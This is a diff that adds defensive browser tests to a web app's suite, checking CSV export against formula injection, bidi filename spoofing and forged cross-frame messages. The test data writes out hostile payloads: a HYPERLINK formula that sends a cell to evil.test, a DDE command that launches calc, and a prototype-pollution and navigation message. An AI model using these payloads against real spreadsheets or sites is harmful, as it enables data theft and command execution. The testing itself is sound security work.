@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import re
 from collections.abc import Iterator
 from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -177,3 +180,149 @@ def test_no_other_site_shows_a_page_of_ours_in_a_frame(
         inner = page.frames[1]
         assert client.base_url not in inner.url
         assert [said for said in refused if "frame" in said.lower()]
+
+
+FORMULAS = (
+    '=HYPERLINK("https://evil.test/"&A1)',
+    "+cmd|' /C calc'!A0",
+    "-1+1|x",
+    "@SUM(A1)",
+    " =1+1",
+    "＝1+1",
+    "a;=1+1",
+)
+
+
+@pytest.mark.attack("E12")
+def test_tables_that_are_saved_run_nothing(victim: Page, client: LinLogClient) -> None:
+    model = client.models.create(FORMULAS[0])
+    for name in FORMULAS:
+        version = client.model_versions.create(model.id, name, config={name: name})
+        log_entries.send(client, version.id, [log_entries.of(0, 1, **{name: -1.5})])
+    victim.goto(f"{client.base_url}/model-versions?model_id={model.id}&view=table")
+    expect(victim.get_by_text("@SUM(A1)").first).to_be_visible()
+    with victim.expect_download() as saved:
+        victim.get_by_label("Save as CSV").first.click()
+    text = Path(saved.value.path()).read_text(encoding="utf-8")
+    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    formula = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r\n]")
+    running = [cell for cell in cells if formula.match(cell) and not is_number(cell)]
+    assert running == []
+    # Nothing is lost: without its apostrophe each is what it was.
+    assert {name.strip() for name in FORMULAS} <= {cell.removeprefix("'").strip() for cell in cells}
+    assert re.search(r'(^|[,"])a;=1', text)
+    unharmed(victim)
+
+
+def is_number(cell: str) -> bool:
+    """Whether a cell is a number, which runs nothing."""
+    return re.fullmatch(r"-?[0-9.]+(e[+-]?[0-9]+)?", cell) is not None
+
+
+ISOLATED = """() => {
+  const found = [], walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
+  while (walker.nextNode()) {
+    const text = walker.currentNode;
+    if (!/[\\u202a-\\u202e\\u2066-\\u2069]/.test(text.data)) continue;
+    let around = text.parentElement, apart = false;
+    while (around !== null && around.textContent === text.data && !apart) {
+      const style = getComputedStyle(around);
+      const flows = /^(inline|contents)$/.test(style.display);
+      apart = /isolate|plaintext/.test(style.unicodeBidi) || !flows;
+      around = around.parentElement;
+    }
+    found.push([apart, text.parentElement.outerHTML.slice(0, 200)]);
+  }
+  return found;
+}"""
+"""Each text that turns the writing over, and whether it does so to itself alone."""
+
+
+@pytest.mark.attack("C17")
+def test_writing_that_turns_over_turns_over_itself_alone(
+    victim: Page, client: LinLogClient
+) -> None:
+    name = "ab\u202egnp.exe\u200b" + "e\u0301" * 60
+    project = client.projects.create(name, labels=[name])
+    new = TaskCreate(
+        item=ItemCreate(type="text", text=name, filename=f"{name}.txt"), batch=name, tags=(name,)
+    )
+    (task,) = client.tasks.create_all(project.id, [new]).results
+    model = client.models.create(name)
+    version = client.model_versions.create(model.id, name, config={name: name})
+    dataset = client.datasets.create(name, project_id=project.id)
+    inside, seen = f"/projects/{project.id}", 0
+    for path in (
+        *("/projects", inside, f"{inside}?view=table", f"{inside}/labels", f"{inside}/batches"),
+        *(f"{inside}/tasks/{task.id}", "/datasets", f"/datasets/{dataset.id}", "/models"),
+        *(f"/models/{model.id}", f"/model-versions/{version.id}"),
+        f"/model-versions?model_id={model.id}&view=table",
+    ):
+        victim.goto(f"{client.base_url}{path}")
+        expect(victim.locator("main h1")).not_to_be_empty()
+        expect(victim.locator(".mantine-Skeleton-root")).to_have_count(0)
+        found = victim.evaluate(ISOLATED)
+        assert (path, [where for apart, where in found if not apart]) == (path, [])
+        seen += len(found)
+        width = victim.evaluate("document.documentElement.scrollWidth - innerWidth")
+        assert width <= 0, f"{path} runs out of its window by {width} pixels"
+    assert seen > 10
+
+
+FORGED = """<!doctype html><title>a page</title><script>
+  const forged = [
+    {type: "complete"}, {type: "linlog", action: "delete"}, "complete", null, 7, [1], {a: {b: 1}},
+    {__proto__: null, constructor: {prototype: {polluted: 1}}}, "x".repeat(2000000),
+    JSON.stringify({type: "navigate", to: "https://evil.test/"}),
+  ];
+  for (const whom of [parent, top]) for (const one of forged) whom.postMessage(one, "*");
+  top.postMessage("last", "*");
+</script>"""
+HEARING = """
+  window.heard = 0; window.arrived = [];
+  const add = window.addEventListener;
+  const note = (event) => window.arrived.push([event.origin, event.data === "last"]);
+  add.call(window, "message", note);
+  window.addEventListener = function (kind, ...rest) {
+    if (kind === "message") window.heard += 1;
+    return add.call(this, kind, ...rest);
+  };
+"""
+
+
+@pytest.mark.attack("C06")
+def test_messages_from_a_frame_are_heard_by_nobody(page: Page, client: LinLogClient) -> None:
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            self.wfile.write(FORGED.encode())
+
+        def log_message(self, *_: object) -> None:
+            """Say nothing."""
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
+        thread = Thread(target=server.serve_forever, daemon=True)
+        thread.start()
+        project = client.projects.create("Frames")
+        item = ItemCreate(type="iframe", url=f"http://127.0.0.1:{server.server_port}/")
+        (task,) = client.tasks.create_all(project.id, [TaskCreate(item=item)]).results
+        dialogs: list[str] = []
+        page.on("dialog", lambda one: (dialogs.append(one.message), one.dismiss()))
+        page.add_init_script(HEARING)
+        enter(page, client.base_url)
+        where = f"{client.base_url}/projects/{project.id}/tasks/{task.id}"
+        page.goto(where)
+        page.get_by_role("button", name="Show it here").click()
+        page.wait_for_function("window.arrived.some(([, last]) => last)")
+        # They came from an origin that nothing belongs to, and no part of the page listens.
+        assert page.evaluate("window.arrived.every(([origin]) => origin === 'null')")
+        assert page.evaluate("window.heard") == 0
+        assert page.evaluate("({}).polluted === undefined")
+        assert (page.url, dialogs) == (where, [])
+        assert len(page.context.pages) == 1
+        after = client.tasks.get(task.id)
+        assert (after.complete, after.version) == (task.complete, task.version)
+        server.shutdown()
+        thread.join()
